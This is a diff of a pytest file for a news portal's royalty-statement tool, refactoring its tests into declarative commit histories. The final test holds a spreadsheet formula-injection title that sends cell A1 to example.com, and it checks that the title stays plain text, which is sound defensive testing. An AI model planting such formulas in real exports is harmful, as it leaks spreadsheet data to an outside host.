@@ -22,7 +22,19 @@ from portal.royalties.history import read_history
 from portal.royalties.rates import parse_rates
 from portal.royalties.tally import month_statement
 from tests.conftest import REPO
-from tests.royalties.gitrepo import DUC, LAN, PHUC, TUNG, PortalRepo
+from tests.githistory import Commit, Revert
+from tests.royalties.conftest import (
+    DUC,
+    LAN,
+    PHUC,
+    ROSTER,
+    TUNG,
+    PortalRepo,
+    change,
+    item,
+    replaced,
+    submit,
+)
 
 LATER = datetime(2027, 3, 1, tzinfo=VIETNAM)
 TIN = {"work": "tin", "coefficient": 1.0}  # 253,000 đồng
@@ -40,14 +52,10 @@ def paid(repo: PortalRepo, month: str) -> dict[tuple[str, str], int]:
     }
 
 
-def rewrite(repo: PortalRepo, relative: str, body: str) -> None:
-    path = repo.content / relative
-    text = path.read_text(encoding="utf-8")
-    path.write_text(text.rsplit("---\n", 1)[0] + "---\n\n" + body + "\n", encoding="utf-8")
-
-
-def publish_october(repo: PortalRepo, relative: str, title: str = "Tin được đổi tên tệp"):
-    repo.submit(relative, title, "2026-10-05 08:00", "2026-10-05 09:00", authors=[LAN], royalty=TIN)
+def publish_october(relative: str, title: str = "Tin được đổi tên tệp") -> list:
+    return submit(
+        relative, title, "2026-10-05 08:00", "2026-10-05 09:00", authors=[LAN], royalty=TIN
+    )
 
 
 @pytest.mark.parametrize(
@@ -56,12 +64,18 @@ def publish_october(repo: PortalRepo, relative: str, title: str = "Tin được 
     ids=["new-name-sorts-after", "new-name-sorts-before"],
 )
 def test_rename_and_rewrite_in_one_commit_is_paid_once(tmp_path, old, new):
-    repo = PortalRepo(tmp_path)
-    publish_october(repo, old)
-    repo.remove(old)
-    repo.write(new, "Tin được đổi tên tệp", "2026-10-05 08:00", authors=[LAN], royalty=TIN)
-    rewrite(repo, new, "Viết lại toàn bộ. " * 80)
-    repo.commit("Rename and rewrite", "2026-11-03 09:00")
+    rewritten = item(
+        "Tin được đổi tên tệp",
+        "2026-10-05 08:00",
+        body="Viết lại toàn bộ. " * 80,
+        authors=[LAN],
+        royalty=TIN,
+    )
+    repo = PortalRepo(
+        tmp_path,
+        publish_october(old),
+        change("Rename and rewrite", "2026-11-03 09:00", {old: None, new: rewritten}),
+    )
     assert paid(repo, "2026-10") == {("lan-pt", "Tin được đổi tên tệp"): 253_000}
     november = statement(repo, "2026-11")
     assert november.royalty_total == 0 and november.unpaid == []
@@ -72,40 +86,44 @@ def test_rename_and_rewrite_in_one_commit_is_paid_once(tmp_path, old, new):
 
 
 def test_rename_with_a_new_title_but_the_same_slug_and_date_is_paid_once(tmp_path):
-    repo = PortalRepo(tmp_path)
-    repo.submit(
-        "tin-tuc/cu.md",
-        "Tin gốc",
-        "2026-10-05 08:00",
-        "2026-10-05 09:00",
-        slug="tin-goc",
-        authors=[LAN],
-        royalty=TIN,
+    retitled = item(
+        "Tin gốc, viết lại", "2026-10-05 08:00", slug="tin-goc", authors=[LAN], royalty=TIN
     )
-    repo.remove("tin-tuc/cu.md")
-    repo.write(
-        "tin-tuc/moi.md",
-        "Tin gốc, viết lại",
-        "2026-10-05 08:00",
-        slug="tin-goc",
-        authors=[LAN],
-        royalty=TIN,
+    repo = PortalRepo(
+        tmp_path,
+        submit(
+            "tin-tuc/cu.md",
+            "Tin gốc",
+            "2026-10-05 08:00",
+            "2026-10-05 09:00",
+            slug="tin-goc",
+            authors=[LAN],
+            royalty=TIN,
+        ),
+        change(
+            "Rename and retitle",
+            "2026-11-03 09:00",
+            {"tin-tuc/cu.md": None, "tin-tuc/moi.md": retitled},
+        ),
     )
-    repo.commit("Rename and retitle", "2026-11-03 09:00")
     assert statement(repo, "2026-11").royalty_total == 0
 
 
 def test_rename_with_a_new_title_and_derived_slug_in_one_commit_is_paid_once(tmp_path):
     """Same date and authors, new file name and title (so a new derived slug), in one
     commit: the same work retitled, not a new one."""
-    repo = PortalRepo(tmp_path)
-    publish_october(repo, "tin-tuc/ten-cu.md", "Tin tiêu đề cũ")
-    repo.remove("tin-tuc/ten-cu.md")
-    repo.write(
-        "tin-tuc/ten-moi.md", "Tin tiêu đề mới", "2026-10-05 08:00", authors=[LAN], royalty=TIN
+    retitled = item(
+        "Tin tiêu đề mới", "2026-10-05 08:00", body="Viết lại. " * 60, authors=[LAN], royalty=TIN
     )
-    rewrite(repo, "tin-tuc/ten-moi.md", "Viết lại. " * 60)
-    repo.commit("Rename and retitle", "2026-11-03 09:00")
+    repo = PortalRepo(
+        tmp_path,
+        publish_october("tin-tuc/ten-cu.md", "Tin tiêu đề cũ"),
+        change(
+            "Rename and retitle",
+            "2026-11-03 09:00",
+            {"tin-tuc/ten-cu.md": None, "tin-tuc/ten-moi.md": retitled},
+        ),
+    )
     assert statement(repo, "2026-11").royalty_total == 0
     assert len(read_history(repo.content).items) == 1
 
@@ -115,30 +133,37 @@ def test_a_move_and_a_new_work_in_the_freed_name_in_one_commit(tmp_path, new_nam
     """The published item moves to a new name while another work (same date, same author,
     another title) takes its old name, in one commit: the moved item keeps its identity
     whatever the order of the names, the other is new and paid."""
-    repo = PortalRepo(tmp_path)
-    publish_october(repo, "tin-tuc/m-cu.md", "Tin đã đăng")
-    old = (repo.content / "tin-tuc/m-cu.md").read_bytes()
-    repo.write(
-        "tin-tuc/m-cu.md", "Tin khác cùng giờ", "2026-10-05 08:00", authors=[LAN], royalty=TIN
+    repo = PortalRepo(
+        tmp_path,
+        publish_october("tin-tuc/m-cu.md", "Tin đã đăng"),
+        Commit(
+            "Move and reuse the name",
+            "2026-11-03 09:00",
+            {
+                "content/tin-tuc/m-cu.md": item(
+                    "Tin khác cùng giờ", "2026-10-05 08:00", authors=[LAN], royalty=TIN
+                )
+            },
+            moves={"content/tin-tuc/m-cu.md": f"content/{new_name}"},
+        ),
     )
-    (repo.content / new_name).write_bytes(old)
-    repo.commit("Move and reuse the name", "2026-11-03 09:00")
     assert paid(repo, "2026-11") == {("lan-pt", "Tin khác cùng giờ"): 253_000}
     assert paid(repo, "2026-10") == {("lan-pt", "Tin đã đăng"): 253_000}
 
 
 def test_a_new_work_under_a_freed_file_name_is_paid(tmp_path):
-    repo = PortalRepo(tmp_path)
-    publish_october(repo, "tin-tuc/cho-trong.md", "Tin cũ")
-    repo.remove("tin-tuc/cho-trong.md")
-    repo.commit("Withdraw the old item", "2026-11-02 09:00")
-    repo.submit(
-        "tin-tuc/cho-trong.md",
-        "Tin mới hoàn toàn",
-        "2026-12-03 08:00",
-        "2026-12-03 09:00",
-        authors=[DUC],
-        royalty=TIN,
+    repo = PortalRepo(
+        tmp_path,
+        publish_october("tin-tuc/cho-trong.md", "Tin cũ"),
+        change("Withdraw the old item", "2026-11-02 09:00", {"tin-tuc/cho-trong.md": None}),
+        submit(
+            "tin-tuc/cho-trong.md",
+            "Tin mới hoàn toàn",
+            "2026-12-03 08:00",
+            "2026-12-03 09:00",
+            authors=[DUC],
+            royalty=TIN,
+        ),
     )
     assert paid(repo, "2026-10") == {("lan-pt", "Tin cũ"): 253_000}
     assert paid(repo, "2026-12") == {("duc-hv", "Tin mới hoàn toàn"): 253_000}
@@ -146,10 +171,12 @@ def test_a_new_work_under_a_freed_file_name_is_paid(tmp_path):
 
 def test_another_work_written_over_a_published_file_is_a_new_work(tmp_path):
     """The mirror image of a rename: the file name stays, the work changes."""
-    repo = PortalRepo(tmp_path)
-    publish_october(repo, "tin-tuc/ghi-de.md", "Tin cũ")
-    repo.write("tin-tuc/ghi-de.md", "Tin khác", "2026-11-10 08:00", authors=[DUC], royalty=TIN)
-    repo.commit("Another item in the same file", "2026-11-10 09:00")
+    other = item("Tin khác", "2026-11-10 08:00", authors=[DUC], royalty=TIN)
+    repo = PortalRepo(
+        tmp_path,
+        publish_october("tin-tuc/ghi-de.md", "Tin cũ"),
+        change("Another item in the same file", "2026-11-10 09:00", {"tin-tuc/ghi-de.md": other}),
+    )
     assert paid(repo, "2026-11") == {("duc-hv", "Tin khác"): 253_000}
     assert paid(repo, "2026-10") == {("lan-pt", "Tin cũ"): 253_000}
 
@@ -157,82 +184,84 @@ def test_another_work_written_over_a_published_file_is_a_new_work(tmp_path):
 def test_a_new_work_that_git_would_call_a_rename_is_paid(tmp_path):
     """Nearly the same text under another name (git's similarity says rename), but
     another title and date: another work."""
-    repo = PortalRepo(tmp_path)
-    publish_october(repo, "tin-tuc/lich-thang-10.md", "Lịch tiếp công dân tháng 10")
-    repo.remove("tin-tuc/lich-thang-10.md")
-    repo.write(
-        "tin-tuc/lich-thang-11.md",
-        "Lịch tiếp công dân tháng 11",
-        "2026-11-02 08:00",
-        authors=[LAN],
-        royalty=TIN,
+    november = item("Lịch tiếp công dân tháng 11", "2026-11-02 08:00", authors=[LAN], royalty=TIN)
+    repo = PortalRepo(
+        tmp_path,
+        publish_october("tin-tuc/lich-thang-10.md", "Lịch tiếp công dân tháng 10"),
+        change(
+            "Next month's schedule replaces the old one",
+            "2026-11-02 09:00",
+            {"tin-tuc/lich-thang-10.md": None, "tin-tuc/lich-thang-11.md": november},
+        ),
     )
-    repo.commit("Next month's schedule replaces the old one", "2026-11-02 09:00")
     assert paid(repo, "2026-11") == {("lan-pt", "Lịch tiếp công dân tháng 11"): 253_000}
 
 
 def test_a_slug_used_again_by_another_work_is_a_new_work(tmp_path):
-    repo = PortalRepo(tmp_path)
-    repo.submit(
-        "tin-tuc/lich.md",
-        "Lịch tháng 10",
-        "2026-10-05 08:00",
-        "2026-10-05 09:00",
-        slug="lich-tiep-cong-dan",
-        authors=[LAN],
-        royalty=TIN,
-    )
-    repo.remove("tin-tuc/lich.md")
-    repo.commit("Withdraw", "2026-10-31 09:00")
-    repo.submit(
-        "tin-tuc/lich-moi.md",
-        "Lịch tháng 11",
-        "2026-11-02 08:00",
-        "2026-11-02 09:00",
-        slug="lich-tiep-cong-dan",
-        authors=[DUC],
-        royalty=TIN,
+    repo = PortalRepo(
+        tmp_path,
+        submit(
+            "tin-tuc/lich.md",
+            "Lịch tháng 10",
+            "2026-10-05 08:00",
+            "2026-10-05 09:00",
+            slug="lich-tiep-cong-dan",
+            authors=[LAN],
+            royalty=TIN,
+        ),
+        change("Withdraw", "2026-10-31 09:00", {"tin-tuc/lich.md": None}),
+        submit(
+            "tin-tuc/lich-moi.md",
+            "Lịch tháng 11",
+            "2026-11-02 08:00",
+            "2026-11-02 09:00",
+            slug="lich-tiep-cong-dan",
+            authors=[DUC],
+            royalty=TIN,
+        ),
     )
     assert paid(repo, "2026-11") == {("duc-hv", "Lịch tháng 11"): 253_000}
 
 
 def test_two_files_swapping_names_pay_nothing_again(tmp_path):
-    repo = PortalRepo(tmp_path)
-    publish_october(repo, "tin-tuc/mot.md", "Tin một")
-    repo.submit(
-        "tin-tuc/hai.md",
-        "Tin hai",
-        "2026-10-06 08:00",
-        "2026-10-06 09:00",
-        authors=[DUC],
-        royalty=TIN,
+    one, two = "content/tin-tuc/mot.md", "content/tin-tuc/hai.md"
+    repo = PortalRepo(
+        tmp_path,
+        publish_october("tin-tuc/mot.md", "Tin một"),
+        submit(
+            "tin-tuc/hai.md",
+            "Tin hai",
+            "2026-10-06 08:00",
+            "2026-10-06 09:00",
+            authors=[DUC],
+            royalty=TIN,
+        ),
+        Commit("Swap the names", "2026-11-04 09:00", moves={one: two, two: one}),
     )
-    one = (repo.content / "tin-tuc/mot.md").read_bytes()
-    (repo.content / "tin-tuc/mot.md").write_bytes((repo.content / "tin-tuc/hai.md").read_bytes())
-    (repo.content / "tin-tuc/hai.md").write_bytes(one)
-    repo.commit("Swap the names", "2026-11-04 09:00")
     assert len(paid(repo, "2026-10")) == 2
     assert statement(repo, "2026-11").royalty_total == 0
 
 
 def test_reverted_and_merged_again_is_still_one_work(tmp_path):
-    repo = PortalRepo(tmp_path)
-    merge = repo.submit(
-        "tin-tuc/lai.md",
-        "Tin đăng lại",
-        "2026-10-05 08:00",
-        "2026-10-05 09:00",
-        authors=[LAN],
-        royalty=TIN,
-    )
-    repo.git("revert", "--no-edit", "-m", "1", merge, when="2026-11-02 09:00")
-    repo.submit(
-        "tin-tuc/lai.md",
-        "Tin đăng lại",
-        "2026-10-05 08:00",
-        "2026-12-02 09:00",
-        authors=[LAN],
-        royalty=TIN,
+    repo = PortalRepo(
+        tmp_path,
+        submit(
+            "tin-tuc/lai.md",
+            "Tin đăng lại",
+            "2026-10-05 08:00",
+            "2026-10-05 09:00",
+            authors=[LAN],
+            royalty=TIN,
+        ),
+        Revert("2026-11-02 09:00"),
+        submit(
+            "tin-tuc/lai.md",
+            "Tin đăng lại",
+            "2026-10-05 08:00",
+            "2026-12-02 09:00",
+            authors=[LAN],
+            royalty=TIN,
+        ),
     )
     assert len(paid(repo, "2026-10")) == 1
     assert paid(repo, "2026-12") == {}
@@ -273,13 +302,13 @@ def test_the_unit_value_may_be_left_out_and_is_derived(tmp_path):
 
 
 def test_a_typo_in_the_rates_on_main_stops_the_statement(tmp_path, monkeypatch, capsys):
-    repo = PortalRepo(tmp_path)
-    rates = repo.root / RATES
-    rates.write_text(
-        rates.read_text(encoding="utf-8").replace("value: 253000", "value: 25300"), "utf-8"
+    repo = PortalRepo(
+        tmp_path,
+        Commit(
+            "Typo", "2026-10-01 09:00", {RATES: replaced(RATES, ("value: 253000", "value: 25300"))}
+        ),
+        publish_october("tin-tuc/a.md"),
     )
-    repo.commit("Typo", "2026-10-01 09:00")
-    publish_october(repo, "tin-tuc/a.md")
     monkeypatch.chdir(repo.root)
     code = main(["royalties", "--month", "2026-10", "--as-of", "2026-11-05 00:00"])
     err = capsys.readouterr().err
@@ -295,8 +324,8 @@ def _change_rates(repo: PortalRepo, old: str, new: str) -> None:
     rates.write_text(text.replace(old, new), encoding="utf-8")
 
 
-def _collected_item(repo: PortalRepo) -> None:
-    repo.submit(
+def _collected_item() -> list:
+    return submit(
         "thong-tin-khac/suu-tam.md",
         "Tin sưu tầm",
         "2026-11-05 08:00",
@@ -316,24 +345,26 @@ def run_month(repo, monkeypatch, out, month="2026-11", as_of="2027-02-01 00:00")
 
 
 def test_a_closed_month_is_the_same_after_later_changes_to_rates_and_roster(tmp_path, monkeypatch):
-    repo = PortalRepo(tmp_path / "repo")
-    _collected_item(repo)
+    repo = PortalRepo(tmp_path / "repo", _collected_item())
     first = tmp_path / "first"
     assert run_month(repo, monkeypatch, first) == 0
     # December: collected items paid 50%, tax and allowances changed, a new unit value, a
     # new secretary; and a working-tree edit never committed
-    _change_rates(repo, "collected: 0.2", "collected: 0.5")
-    _change_rates(repo, "rate: 0.1", "rate: 0.2")
-    _change_rates(repo, "base_salary_coefficient: 0.3", "base_salary_coefficient: 0.9")
-    _change_rates(
-        repo,
-        "works:",
-        "works:\n  - {code: moi, name: Mới, unit: tin, min: 0.1, max: 9.0}",
+    rates = replaced(
+        RATES,
+        ("collected: 0.2", "collected: 0.5"),
+        ("rate: 0.1", "rate: 0.2"),
+        ("base_salary_coefficient: 0.3", "base_salary_coefficient: 0.9"),
+        ("works:", "works:\n  - {code: moi, name: Mới, unit: tin, min: 0.1, max: 9.0}"),
     )
-    roster = repo.root / "reviews" / "roster.yml"
-    text = roster.read_text(encoding="utf-8")
-    roster.write_text(text.replace("name: Lê Thị Minh Thu", "name: Lê Thị Minh Thư"), "utf-8")
-    repo.commit("New rates from December; a name corrected in the roster", "2026-12-01 08:00")
+    roster = replaced(ROSTER, ("name: Lê Thị Minh Thu", "name: Lê Thị Minh Thư"))
+    repo.run(
+        Commit(
+            "New rates from December; a name corrected in the roster",
+            "2026-12-01 08:00",
+            {RATES: rates, ROSTER: roster},
+        )
+    )
     _change_rates(repo, "collected: 0.5", "collected: 1.0")
     second = tmp_path / "second"
     assert run_month(repo, monkeypatch, second) == 0
@@ -348,10 +379,15 @@ def test_a_closed_month_is_the_same_after_later_changes_to_rates_and_roster(tmp_
 
 
 def test_a_rate_change_on_main_applies_from_the_month_it_lands_in(tmp_path):
-    repo = PortalRepo(tmp_path)
-    _change_rates(repo, "collected: 0.2", "collected: 0.5")
-    repo.commit("Collected items paid 50% from November", "2026-10-20 08:00")
-    _collected_item(repo)
+    repo = PortalRepo(
+        tmp_path,
+        Commit(
+            "Collected items paid 50% from November",
+            "2026-10-20 08:00",
+            {RATES: replaced(RATES, ("collected: 0.2", "collected: 0.5"))},
+        ),
+        _collected_item(),
+    )
     assert statement(repo, "2026-11").royalty_total == 126_500
 
 
@@ -370,17 +406,19 @@ BAD_ITEMS = {
 
 @pytest.mark.parametrize("case", sorted(BAD_ITEMS))
 def test_a_statement_with_item_errors_is_a_draft_everywhere(tmp_path, monkeypatch, capsys, case):
-    repo = PortalRepo(tmp_path / "repo")
     fields = {"authors": [LAN], "royalty": TIN, **BAD_ITEMS[case]}
-    repo.submit(
-        "tin-tuc/tot.md",
-        "Tin tốt",
-        "2026-11-02 08:00",
-        "2026-11-02 09:00",
-        authors=[DUC],
-        royalty=TIN,
+    repo = PortalRepo(
+        tmp_path / "repo",
+        submit(
+            "tin-tuc/tot.md",
+            "Tin tốt",
+            "2026-11-02 08:00",
+            "2026-11-02 09:00",
+            authors=[DUC],
+            royalty=TIN,
+        ),
+        submit("tin-tuc/loi.md", "Tin có lỗi", "2026-11-03 08:00", "2026-11-03 09:00", **fields),
     )
-    repo.submit("tin-tuc/loi.md", "Tin có lỗi", "2026-11-03 08:00", "2026-11-03 09:00", **fields)
     out = tmp_path / "out"
     assert run_month(repo, monkeypatch, out) == 1
     err = capsys.readouterr().err
@@ -402,14 +440,16 @@ def test_a_statement_with_item_errors_is_a_draft_everywhere(tmp_path, monkeypatc
 
 
 def test_a_bad_coefficient_is_reported_at_its_line(tmp_path, monkeypatch, capsys):
-    repo = PortalRepo(tmp_path / "repo")
-    repo.submit(
-        "tin-tuc/am.md",
-        "Hệ số âm",
-        "2026-11-03 08:00",
-        "2026-11-03 09:00",
-        authors=[LAN],
-        royalty={"work": "tin", "coefficient": -0.5},
+    repo = PortalRepo(
+        tmp_path / "repo",
+        submit(
+            "tin-tuc/am.md",
+            "Hệ số âm",
+            "2026-11-03 08:00",
+            "2026-11-03 09:00",
+            authors=[LAN],
+            royalty={"work": "tin", "coefficient": -0.5},
+        ),
     )
     assert run_month(repo, monkeypatch, tmp_path / "out") == 1
     lines = (repo.content / "tin-tuc/am.md").read_text(encoding="utf-8").splitlines()
@@ -422,23 +462,25 @@ def test_a_bad_coefficient_is_reported_at_its_line(tmp_path, monkeypatch, capsys
 
 
 def test_a_photographer_with_no_image_is_not_paid_for_photos(tmp_path):
-    repo = PortalRepo(tmp_path)
-    repo.submit(
-        "tin-tuc/khong-anh.md",
-        "Tin không ảnh",
-        "2026-11-03 08:00",
-        "2026-11-03 09:00",
-        authors=[LAN, {**TUNG, "role": "photo"}],
-        royalty=TIN,
-    )
-    repo.submit(
-        "tin-tuc/mot-anh.md",
-        "Tin một ảnh",
-        "2026-11-04 08:00",
-        "2026-11-04 09:00",
-        authors=[LAN, {**TUNG, "role": "photo"}],
-        royalty=TIN,
-        images=[{"src": "images/hoi-nghi.svg", "alt": "Ảnh hội nghị"}],
+    repo = PortalRepo(
+        tmp_path,
+        submit(
+            "tin-tuc/khong-anh.md",
+            "Tin không ảnh",
+            "2026-11-03 08:00",
+            "2026-11-03 09:00",
+            authors=[LAN, {**TUNG, "role": "photo"}],
+            royalty=TIN,
+        ),
+        submit(
+            "tin-tuc/mot-anh.md",
+            "Tin một ảnh",
+            "2026-11-04 08:00",
+            "2026-11-04 09:00",
+            authors=[LAN, {**TUNG, "role": "photo"}],
+            royalty=TIN,
+            images=[{"src": "images/hoi-nghi.svg", "alt": "Ảnh hội nghị"}],
+        ),
     )
     assert paid(repo, "2026-11") == {
         ("lan-pt", "Tin không ảnh"): 253_000,
@@ -462,8 +504,8 @@ def test_a_photographer_with_no_image_is_not_paid_for_photos(tmp_path):
 def test_months_outside_the_history_or_malformed_are_refused(
     tmp_path, monkeypatch, capsys, month, message
 ):
-    repo = PortalRepo(tmp_path / "repo")  # history starts 1 September 2026
-    publish_october(repo, "tin-tuc/dau-tien.md")  # the first item: 5 October
+    # history starts 1 September 2026; the first item: 5 October
+    repo = PortalRepo(tmp_path / "repo", publish_october("tin-tuc/dau-tien.md"))
     assert run_month(repo, monkeypatch, tmp_path / "out", month=month) == 2
     err = capsys.readouterr().err
     assert message in err and "Lỗi nội bộ" not in err
@@ -473,22 +515,25 @@ def test_months_outside_the_history_or_malformed_are_refused(
 def test_each_unit_value_used_prints_its_legal_basis_and_provisional_ones_are_marked(
     tmp_path, monkeypatch
 ):
-    repo = PortalRepo(tmp_path / "repo", start="2026-06-01 08:00")
-    repo.submit(
-        "tin-tuc/thang-6.md",
-        "Tin tháng sáu",
-        "2026-06-10 08:00",
-        "2026-06-10 09:00",
-        authors=[LAN],
-        royalty=TIN,
-    )
-    repo.submit(
-        "tin-tuc/thang-7.md",
-        "Tin tháng bảy",
-        "2026-07-10 08:00",
-        "2026-07-10 09:00",
-        authors=[LAN],
-        royalty=TIN,
+    repo = PortalRepo(
+        tmp_path / "repo",
+        submit(
+            "tin-tuc/thang-6.md",
+            "Tin tháng sáu",
+            "2026-06-10 08:00",
+            "2026-06-10 09:00",
+            authors=[LAN],
+            royalty=TIN,
+        ),
+        submit(
+            "tin-tuc/thang-7.md",
+            "Tin tháng bảy",
+            "2026-07-10 08:00",
+            "2026-07-10 09:00",
+            authors=[LAN],
+            royalty=TIN,
+        ),
+        start="2026-06-01 08:00",
     )
     june, july = tmp_path / "june", tmp_path / "july"
     assert run_month(repo, monkeypatch, june, month="2026-06") == 0
@@ -505,16 +550,17 @@ def test_each_unit_value_used_prints_its_legal_basis_and_provisional_ones_are_ma
 
 
 def november_item(root) -> PortalRepo:
-    repo = PortalRepo(root)
-    repo.submit(
-        "tin-tuc/thang-11.md",
-        "Tin tháng mười một",
-        "2026-11-02 08:00",
-        "2026-11-02 09:00",
-        authors=[LAN],
-        royalty=TIN,
+    return PortalRepo(
+        root,
+        submit(
+            "tin-tuc/thang-11.md",
+            "Tin tháng mười một",
+            "2026-11-02 08:00",
+            "2026-11-02 09:00",
+            authors=[LAN],
+            royalty=TIN,
+        ),
     )
-    return repo
 
 
 # --- --out -------------------------------------------------------------------------------------
@@ -566,16 +612,18 @@ def test_errors_are_portal_errors(tmp_path):
 
 
 def test_a_title_that_looks_like_a_formula_stays_text(tmp_path, monkeypatch):
-    repo = PortalRepo(tmp_path / "repo")
     hostile = '=HYPERLINK("http://example.com/?"&A1,"Bấm vào đây")'
-    repo.submit(
-        "tin-tuc/cong-thuc.md",
-        hostile,
-        "2026-11-02 08:00",
-        "2026-11-02 09:00",
-        slug="cong-thuc",
-        authors=[LAN],
-        royalty=TIN,
+    repo = PortalRepo(
+        tmp_path / "repo",
+        submit(
+            "tin-tuc/cong-thuc.md",
+            hostile,
+            "2026-11-02 08:00",
+            "2026-11-02 09:00",
+            slug="cong-thuc",
+            authors=[LAN],
+            royalty=TIN,
+        ),
     )
     out = tmp_path / "out"
     assert run_month(repo, monkeypatch, out) == 0
